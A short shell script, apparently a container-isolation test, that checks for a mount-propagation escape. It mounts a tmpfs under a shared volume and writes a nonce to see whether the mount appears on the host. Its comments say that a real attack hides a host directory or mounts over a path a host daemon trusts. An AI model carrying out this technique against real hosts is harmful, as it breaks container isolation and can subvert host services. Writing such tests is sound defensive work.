# Attack: make a mount inside the container that shows up on the host.
# /vol is a volume of a host directory that is a shared mount on the host (as
# Kubernetes' mountPropagation: Bidirectional asks, or a host whose / is shared).
# If the container's mounts are shared too, a mount event below /vol travels back
# to the host's peer: the container decides what the host sees in that directory
# (a real attack hides a host directory under its own files, or mounts on a
# path a host daemon trusts).
echo "target: the host directory behind /vol ($MC_SHARED_HOST_DIR)"
grep " /vol " /proc/self/mountinfo | cut -d' ' -f5,7 | sed 's/^/mountinfo: /'
# A tmpfs of our own on /vol/leak (mount needs CAP_SYS_ADMIN), with the nonce in it.
if mount -t tmpfs -o size=64k mc-propagation-leak /vol/leak; then
    echo "mount -t tmpfs mc-propagation-leak /vol/leak: ok"
    echo "$MC_NONCE" > /vol/leak/nonce && echo "wrote the nonce into /vol/leak/nonce"
    echo "the host decides now: does $MC_SHARED_HOST_DIR/leak/nonce exist there?"
else
    echo "mount -t tmpfs mc-propagation-leak /vol/leak: refused"
fi
